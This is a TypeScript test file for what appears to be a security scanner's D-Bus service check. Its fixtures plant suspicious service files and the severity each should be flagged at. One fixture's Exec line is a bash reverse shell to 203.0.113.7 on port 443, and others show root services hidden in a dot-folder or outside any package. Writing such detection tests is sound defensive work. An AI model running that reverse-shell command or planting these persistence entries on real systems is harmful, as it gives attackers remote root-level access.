import { tellsOf } from '../../../test/plant-rows.ts';
import { dbus } from './check.ts';

tellsOf(dbus, {
  rows: {
    'a service of the system bus in a hidden folder': { files: { '/usr/share/dbus-1/system-services/org.example.Helper.service': '[D-BUS Service]\nName=org.example.Helper\nExec=/var/lib/.cache-x/h\nUser=root\n', '/var/lib/.cache-x/h': { text: 'ELF', mode: 0o755 } }, finds: ['intrusion medium /usr/share/dbus-1/system-services/org.example.Helper.service'] },
    'a service of a session that opens a shell to the network': { files: { '/home/lin/.local/share/dbus-1/services/org.x.service': '[D-BUS Service]\nName=org.x\nExec=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"\n' }, finds: ['intrusion critical /home/lin/.local/share/dbus-1/services/org.x.service'] },
    'one of no package that runs as root': { files: { '/usr/local/share/dbus-1/system-services/org.y.service': '[D-BUS Service]\nName=org.y\nExec=/usr/local/bin/y\nUser=root\n', '/usr/local/bin/y': { text: 'ELF', mode: 0o755 } }, finds: ['notice low /usr/local/share/dbus-1/system-services/org.y.service'] },
  },
  ordinary: {
    '/usr/share/dbus-1/system-services/org.freedesktop.login1.service': { text: '[D-BUS Service]\nName=org.freedesktop.login1\nExec=/bin/false\nUser=root\n', package: 'systemd' },
    '/home/lin/.local/share/dbus-1/services/org.app.service': '[D-BUS Service]\nName=org.app\nExec=/opt/app/bin/app --dbus\n', '/opt/app/bin/app': { text: 'ELF', mode: 0o755 },
  },
  reads: '/home/lin/.local/share/dbus-1/services/org.x.service',
});
